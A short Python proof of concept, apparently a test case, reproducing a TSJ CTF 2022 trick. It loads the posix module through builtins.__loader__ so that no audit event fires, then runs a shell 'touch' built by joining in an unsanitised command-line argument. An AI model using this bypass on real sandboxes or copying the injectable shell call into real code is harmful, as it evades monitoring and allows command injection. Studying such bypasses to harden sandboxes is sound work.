"""The loader of built-in modules, taken from builtins, imports without an event (TSJ CTF 2022)."""

import builtins
import sys
import warnings

warnings.simplefilter("ignore")
posix = builtins.__loader__.load_module("posix")
builtins.__loader__.load_module(
    "xxsubtype" if "xxsubtype" in sys.builtin_module_names else "atexit"
)
posix.system("touch '" + sys.argv[1] + "'")
